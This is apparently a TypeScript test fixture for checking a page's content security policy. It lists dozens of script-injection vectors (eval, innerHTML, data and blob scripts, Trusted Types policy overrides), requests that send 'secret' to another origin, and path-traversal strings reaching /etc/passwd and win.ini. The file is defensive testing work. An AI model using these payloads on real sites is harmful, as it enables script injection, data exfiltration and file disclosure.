/** Marks the page; no vector may ever bring the page to run it. */
const mark = 'window.somethingRan = true'

/**
 * Ways to run a script of one's own in a page, or to send something out of it, as JavaScript that an
 * attacker would bring to run if there were one hole. `elsewhere` is another origin, whose every
 * answer is allowed to be used and would set the mark.
 */
export function injections(elsewhere: string): Readonly<Record<string, string>> {
  const element = (tag: string, attributes: Record<string, string>, content = '') => `
    const element = document.createElement('${tag}')
    for (const [name, value] of Object.entries(${JSON.stringify(attributes)}))
      element.setAttribute(name, value)
    ${content === '' ? '' : `element.append(${JSON.stringify(content)})`}
    document.head.append(element)
    element.click()`
  const script = JSON.stringify(`<script>${mark}</script><img src=x onerror="${mark}">`)
  const code = JSON.stringify(mark)
  const dataScript = `data:text/javascript,${mark}`
  return {
    'inline script': element('script', {}, mark),
    'inline module': element('script', { type: 'module' }, mark),
    'inline script with a guessed nonce': element('script', { nonce: 'abc' }, mark),
    'script from elsewhere': element('script', { src: `${elsewhere}/script.js` }),
    'module from elsewhere': element('script', { type: 'module', src: `${elsewhere}/script.js` }),
    'script from a data address': element('script', { src: dataScript }),
    'script from a blob': `
      const element = document.createElement('script')
      element.src = URL.createObjectURL(new Blob([${code}], { type: 'text/javascript' }))
      document.head.append(element)`,
    'import from elsewhere': `await import('${elsewhere}/script.js')`,
    'import of a data address': `await import(${JSON.stringify(dataScript)})`,
    'inline handler': `const image = new Image(); image.setAttribute('onerror', ${code}); image.src = '/none'`,
    'handler by attribute node': `
      const attribute = document.createAttribute('onclick')
      attribute.value = ${code}
      document.body.setAttributeNode(attribute)
      document.body.click()`,
    'javascript: address': element('a', { href: `javascript:${mark}` }),
    'javascript: address in a frame': element('iframe', { src: `javascript:parent.${mark}` }),
    eval: `eval(${code})`,
    'eval by another name': `(0, eval)(${code})`,
    Function: `new Function(${code})()`,
    'Function by a constructor': `(() => 1).constructor(${code})()`,
    'async Function': `await (async () => 1).constructor(${code})()`,
    'timer with a text': `setTimeout(${code}, 0)`,
    innerHTML: `document.body.innerHTML = ${script}`,
    outerHTML: `document.querySelector('#app').outerHTML = ${script}`,
    insertAdjacentHTML: `document.body.insertAdjacentHTML('beforeend', ${script})`,
    'document.write': `document.write(${script})`,
    'range fragment': `document.body.append(document.createRange().createContextualFragment(${script}))`,
    DOMParser: `new DOMParser().parseFromString(${script}, 'text/html')`,
    'frame with a document': `document.createElement('iframe').srcdoc = ${script}`,
    'a policy of one’s own': `trustedTypes.createPolicy('mine', { createHTML: (html) => html })`,
    'a default policy': `trustedTypes.createPolicy('default', { createScript: (code) => code })`,
    'Svelte’s policy once more': `trustedTypes.createPolicy('svelte-trusted-html', { createHTML: (html) => html })`,
    'worker from elsewhere': `new Worker('${elsewhere}/script.js')`,
    'worker from a blob': `
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))
      await new Promise((resolve) => {
        worker.onmessage = () => resolve(${mark})
        worker.onerror = resolve
      })`,
    'service worker from elsewhere': `await navigator.serviceWorker.register('${elsewhere}/script.js')`,
    'style from elsewhere': element('link', { rel: 'stylesheet', href: `${elsewhere}/style.css` }),
    'inline style that loads': element('style', {}, `body { background: url(${elsewhere}/a.png) }`),
    'picture from elsewhere': `await new Promise((resolve) => {
      const image = new Image()
      image.onload = image.onerror = resolve
      image.src = '${elsewhere}/a.png'
    })`,
    'font from elsewhere': `await new FontFace('far', 'url(${elsewhere}/font.woff2)').load()`,
    'fetch elsewhere': `await fetch('${elsewhere}/take', { method: 'POST', body: 'secret' })`,
    'XMLHttpRequest elsewhere': `
      const request = new XMLHttpRequest()
      request.open('GET', '${elsewhere}/take', false)
      request.send()`,
    'beacon elsewhere': `navigator.sendBeacon('${elsewhere}/take', 'secret')`,
    'WebSocket elsewhere': `new WebSocket('${elsewhere.replace('http', 'ws')}/take')`,
    'event source elsewhere': `new EventSource('${elsewhere}/take')`,
    'prefetch elsewhere': element('link', { rel: 'prefetch', href: `${elsewhere}/take` }),
    'frame from elsewhere': element('iframe', { src: `${elsewhere}/page.html` }),
    'object from elsewhere': element('object', { data: `${elsewhere}/page.html` }),
    'embed from elsewhere': element('embed', { src: `${elsewhere}/page.html` }),
    'video from elsewhere': element('video', { src: `${elsewhere}/film.mp4` }),
    'form to elsewhere': `
      const form = document.createElement('form')
      form.action = '${elsewhere}/take'
      document.body.append(form)
      form.submit()`,
    'base elsewhere': `
      document.head.append(Object.assign(document.createElement('base'), { href: '${elsewhere}/' }))
      if (document.baseURI.startsWith('${elsewhere}')) ${mark}`,
  }
}

/** Addresses under the app's own origin that a path check may be talked out of its folder with. */
export const waysOut: readonly string[] = [
  '/../../package.json',
  '/../main/index.js',
  '/..%2fmain%2findex.js',
  '/%2e%2e/main/index.js',
  '/%2e%2e%2fmain%2findex.js',
  '/assets/..%2f..%2fmain%2findex.js',
  '/..%5cmain%5cindex.js',
  '/..\\main\\index.js',
  '/%252e%252e%252fmain/index.js',
  '/.%00./main/index.js',
  '/index.html%00.js',
  '//etc/passwd',
  '/%2fetc%2fpasswd',
  '/%5c%5chost%5cshare',
  '/file:///etc/passwd',
  '/C:/Windows/win.ini',
  '/%',
  '/%c0%ae%c0%ae/main/index.js',
]
